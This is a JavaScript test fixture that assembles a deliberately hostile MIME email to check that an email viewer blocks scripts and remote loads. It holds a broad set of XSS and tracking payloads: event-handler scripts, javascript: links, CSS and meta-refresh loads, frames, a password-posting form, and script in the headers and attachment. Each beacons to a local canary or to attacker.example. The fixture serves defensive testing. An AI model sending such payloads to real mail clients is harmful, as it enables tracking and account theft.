// hostile.mjs - an email written to attack the viewer: scripts, event
// handlers, javascript: links, remote images, CSS url() and @import, meta
// refresh, a form, frames, objects, and markup in its headers and text.
// Every network reference points at `canary` (a server the test watches);
// every script, if it ever ran, would leave a marker the test looks for.

export const HOSTILE_MID = 'hostile-0001@attacker.example';

export function hostileEmail(canary) {
  const c = canary; // http://127.0.0.1:PORT
  const js = `window.__pwned=1;try{parent.postMessage('pwned','*')}catch(e){};` +
    `try{top.__pwned=1}catch(e){};document.documentElement.setAttribute('data-pwned','1');` +
    `fetch('${c}/script-fetch');new Image().src='${c}/script-img'`;
  const html = `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=${c}/meta-refresh">
<base href="${c}/base/">
<link rel="stylesheet" href="${c}/link-css">
<link rel="prefetch" href="${c}/prefetch">
<link rel="dns-prefetch" href="//dns-prefetch.attacker.example">
<link rel="icon" href="${c}/favicon">
<style>
@import url("${c}/css-import");
@font-face { font-family: x; src: url("${c}/css-font"); }
body { background: url("${c}/css-background"); font-family: x; }
.q { background-image: url('${c}/css-class'); }
</style>
<script>${js}</script>
<script src="${c}/script-src"></script>
</head>
<body onload="${js.replace(/"/g, '&quot;')}" background="${c}/body-background">
<h1 id="greeting">Quarterly numbers</h1>
<p class="q" style="background:url(${c}/inline-style)">Please review <b>today</b>.</p>
<img id="remote" src="${c}/img" alt="remote image">
<img src="x" onerror="${js.replace(/"/g, '&quot;')}">
<img srcset="${c}/srcset 2x">
<picture><source srcset="${c}/picture"><img src="${c}/picture-img"></picture>
<svg width="10" height="10" onload="${js.replace(/"/g, '&quot;')}"><image href="${c}/svg-image" width="10" height="10"/></svg>
<video poster="${c}/video-poster" src="${c}/video"></video>
<audio src="${c}/audio" autoplay></audio>
<object data="${c}/object"></object>
<embed src="${c}/embed">
<iframe src="${c}/iframe"></iframe>
<iframe srcdoc="<script>${js.replace(/"/g, '&quot;')}</script>"></iframe>
<table background="${c}/table-background"><tr><td>cell</td></tr></table>
<p><a id="jslink" href="javascript:${js.replace(/"/g, '&quot;')}">click for the report</a></p>
<p><a id="remotelink" href="${c}/link-click">open the portal</a></p>
<p><a id="blanklink" href="${c}/link-blank" target="_blank">open in a new window</a></p>
<form id="form" action="${c}/form" method="post"><input name="password" value="hunter2"><button id="formbtn" type="submit">Log in</button></form>
<input type="image" src="${c}/input-image">
<div onmouseover="${js.replace(/"/g, '&quot;')}">hover me</div>
</body></html>
`;
  const text = `Quarterly numbers <script>${js}</script>
<img src=x onerror="${js}">
<a href="javascript:${js}">click</a>
Visit ${c}/plain-text-url for the portal.
`;
  const attach = `<html><body><script>${js}</script><img src="${c}/attachment-img"><p>attached page</p></body></html>`;
  const b64 = (s) => Buffer.from(s, 'utf8').toString('base64').replace(/.{76}/g, '$&\r\n');
  return [
    `From: "<b onmouseover=alert(1)>Evil</b> <script>window.__pwned=1</script>" <evil@attacker.example>`,
    `To: Jonas Brekke <jonas.brekke@halvorsen-maritime.example>`,
    `Subject: <script>window.__pwned=1</script> Quarterly <img src=x onerror=alert(1)> numbers`,
    `Date: Mon, 17 Mar 2014 09:00:00 +0000`,
    `Message-ID: <${HOSTILE_MID}>`,
    `MIME-Version: 1.0`,
    `Content-Type: multipart/mixed; boundary="outer"`,
    ``,
    `--outer`,
    `Content-Type: multipart/alternative; boundary="alt"`,
    ``,
    `--alt`,
    `Content-Type: text/plain; charset=utf-8`,
    `Content-Transfer-Encoding: base64`,
    ``,
    b64(text),
    `--alt`,
    `Content-Type: text/html; charset=utf-8`,
    `Content-Transfer-Encoding: base64`,
    ``,
    b64(html),
    `--alt--`,
    `--outer`,
    `Content-Type: text/html; charset=utf-8; name="report.html"`,
    `Content-Disposition: attachment; filename="report.html"`,
    `Content-Transfer-Encoding: base64`,
    ``,
    b64(attach),
    `--outer--`,
    ``,
  ].join('\r\n');
}
